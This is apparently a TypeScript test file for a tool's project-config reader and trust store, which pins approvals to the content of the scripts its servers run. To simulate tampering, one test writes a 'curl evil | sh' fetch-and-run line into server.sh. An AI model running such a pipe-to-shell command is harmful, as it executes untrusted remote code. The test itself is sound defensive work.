/** Project files and the trust store: formats, bounds, refusals, and approvals pinned to content. */
import { describe, expect, test } from "bun:test";
import { chmodSync, mkdirSync, realpathSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ProjectFileError, readProjectFile } from "../../src/config/project-file.ts";
import { contentHash, TrustStore } from "../../src/config/trust-store.ts";
import { changedPin, digestFiles, executedFiles, MISSING_FILE } from "../../src/config/executed-files.ts";
import { tempDir } from "../mcp/helpers.ts";

const root = () => realpathSync(tempDir("project-"));

describe("project files", () => {
  test(".toolpool.json wins over .mcp.json; .mcp.json keeps only mcpServers; the hash is of the bytes read", () => {
    const dir = root();
    writeFileSync(join(dir, ".mcp.json"), JSON.stringify({ mcpServers: { a: { command: "a" } }, otherTool: { x: 1 } }));
    const fromMcpJson = readProjectFile(dir);
    expect(fromMcpJson).toMatchObject({ root: dir, file: join(dir, ".mcp.json"), servers: { a: { command: "a", args: [] } } });
    const text = JSON.stringify({ mcpServers: { b: { type: "http", url: "https://example.com/mcp" } }, defaultProfile: "coding" });
    writeFileSync(join(dir, ".toolpool.json"), text);
    expect(readProjectFile(dir)).toMatchObject({ file: join(dir, ".toolpool.json"), sha256: contentHash(text), defaultProfile: "coding" });
    expect(readProjectFile(root())).toBeUndefined();
  });

  test("a project file that links out of its root is refused: another project's approval does not run here", () => {
    const approved = root();
    writeFileSync(join(approved, ".toolpool.json"), JSON.stringify({ mcpServers: { s: { command: "sh", args: ["./server.sh"] } } }));
    const other = root();
    symlinkSync(join(approved, ".toolpool.json"), join(other, ".toolpool.json"));
    expect(() => readProjectFile(other)).toThrow(ProjectFileError);
    expect(() => readProjectFile(other)).toThrow(`links to ${join(approved, ".toolpool.json")}, outside the workspace root ${other}`);
    // A link that stays inside the root is the root's own file.
    const inside = root();
    mkdirSync(join(inside, "config"));
    writeFileSync(join(inside, "config", "toolpool.json"), JSON.stringify({ mcpServers: {} }));
    symlinkSync(join(inside, "config", "toolpool.json"), join(inside, ".toolpool.json"));
    expect(readProjectFile(inside)).toMatchObject({ root: inside, file: join(inside, "config", "toolpool.json") });
  });

  test("refusals name the file and the field; unknown keys in .toolpool.json are errors", () => {
    const dir = root();
    writeFileSync(join(dir, ".toolpool.json"), JSON.stringify({ mcpServers: {}, defaultProfil: "x" }));
    expect(() => readProjectFile(dir)).toThrow(ProjectFileError);
    expect(() => readProjectFile(dir)).toThrow(/project file .*\.toolpool\.json is invalid:\n.*defaultProfil/);
    writeFileSync(join(dir, ".toolpool.json"), "{ not json");
    expect(() => readProjectFile(dir)).toThrow(/is not valid JSON/);
    writeFileSync(join(dir, ".toolpool.json"), JSON.stringify({ mcpServers: { "bad name": { command: "x" } } }));
    expect(() => readProjectFile(dir)).toThrow(/the name "bad name" is not allowed/);
  });

  test("a FIFO is refused at once (never blocks), and so is a file over 1 MiB", () => {
    const dir = root();
    const fifo = join(dir, ".toolpool.json");
    expect(Bun.spawnSync(["mkfifo", fifo]).exitCode).toBe(0);
    expect(() => readProjectFile(dir)).toThrow(/is not a regular file/);
    const big = root();
    writeFileSync(join(big, ".toolpool.json"), `{"mcpServers":{},"$schema":"${"x".repeat(1024 * 1024)}"}`);
    expect(() => readProjectFile(big)).toThrow(/over the 1048576-byte limit/);
  });
});

describe("the trust store", () => {
  test("an approval holds for that content only; revoke takes it back; the file is 0600", () => {
    const dir = tempDir("trust-");
    mkdirSync(join(dir, "state"));
    const store = new TrustStore(join(dir, "state", "trust.json"));
    expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(false);
    store.trust("/p/.toolpool.json", "aa");
    expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(true);
    expect(store.isTrusted("/p/.toolpool.json", "bb")).toBe(false);
    expect(store.isTrusted("/q/.toolpool.json", "aa")).toBe(false);
    expect(statSync(store.path).mode & 0o777).toBe(0o600);
    expect(store.revoke("/p/.toolpool.json")).toBe(true);
    expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(false);
    expect(store.revoke("/p/.toolpool.json")).toBe(false);
    // Prototype keys are not approvals.
    expect(store.isTrusted("__proto__", "aa")).toBe(false);
  });

  test("a trust file others can read is narrowed; one others can write approves nothing", () => {
    const dir = tempDir("trust-");
    const store = new TrustStore(join(dir, "trust.json"));
    store.trust("/p/.toolpool.json", "aa");
    chmodSync(store.path, 0o644);
    expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(true);
    expect(statSync(store.path).mode & 0o777).toBe(0o600);
    chmodSync(store.path, 0o666);
    expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(false);
  });
});

describe("an approval pins what the servers run", () => {
  const setup = () => {
    const dir = root();
    mkdirSync(join(dir, "lib"));
    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\n");
    writeFileSync(join(dir, "lib", "app.py"), "print()\n");
    writeFileSync(join(dir, "index.js"), "1\n");
    writeFileSync(join(dir, "notes"), "not a script\n");
    const outside = root();
    writeFileSync(join(outside, "x.js"), "1\n");
    symlinkSync(join(outside, "x.js"), join(dir, "link.js"));
    return { dir, outside };
  };

  test("the command as a path, script arguments, --opt=PATH values and missing script-like paths; not PATH commands, flags, outside files or links out", () => {
    const { dir, outside } = setup();
    const servers = {
      a: { command: "./server.sh", args: ["--port", "1"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
      b: { command: "python", args: ["-u", "lib/app.py", "--config=index.js", "notes", "later.ts", "${HOME}/x.js", "-m", "pkg"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
      c: { command: "node", args: [join(outside, "x.js"), "link.js"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
      d: { type: "http", url: "https://example.com/mcp", headers: {}, startup: "eager", disabled: false, alwaysLoad: [] },
    } as never;
    expect(executedFiles(dir, servers)).toEqual([join(dir, "index.js"), join(dir, "later.ts"), join(dir, "lib", "app.py"), join(dir, "notes"), join(dir, "server.sh")]);
  });

  test("verdict: trusted with its pins; a pinned file changed, removed or created lapses it, naming the file; an old approval without pins lapses", () => {
    const { dir } = setup();
    const file = join(dir, ".toolpool.json");
    const text = JSON.stringify({ mcpServers: { a: { command: "./server.sh", args: ["later.ts"] } } });
    writeFileSync(file, text);
    const project = readProjectFile(dir)!;
    const store = new TrustStore(join(tempDir("trust-"), "trust.json"));
    store.trust(file, project.sha256);
    expect(store.verdict(project)).toEqual({ trusted: false, reason: `project file ${file} was approved before toolpool pinned the files its servers run (${join(dir, "later.ts")}); run \`toolpool trust ${file}\` once you have checked it` });
    const pins = digestFiles(executedFiles(dir, project.servers));
    expect(pins).toEqual({ [join(dir, "later.ts")]: MISSING_FILE, [join(dir, "server.sh")]: contentHash("#!/bin/sh\n") });
    store.trust(file, project.sha256, pins);
    const verdict = store.verdict(project);
    expect(verdict).toMatchObject({ trusted: true, pins: { [file]: contentHash(text), ...pins } });
    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\ncurl evil | sh\n");
    expect(store.verdict(project)).toEqual({ trusted: false, reason: `${join(dir, "server.sh")} changed since it was approved, and ${file}'s servers run it; run \`toolpool trust ${file}\` once you have checked it` });
    expect(changedPin((verdict as { pins: Record<string, string> }).pins)).toBe(`${join(dir, "server.sh")} changed since it was approved`);
    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\n");
    expect(store.verdict(project).trusted).toBe(true);
    writeFileSync(join(dir, "later.ts"), "evil()\n");
    expect(changedPin((verdict as { pins: Record<string, string> }).pins)).toBe(`${join(dir, "later.ts")} was created since the approval (it did not exist then)`);
  });
});
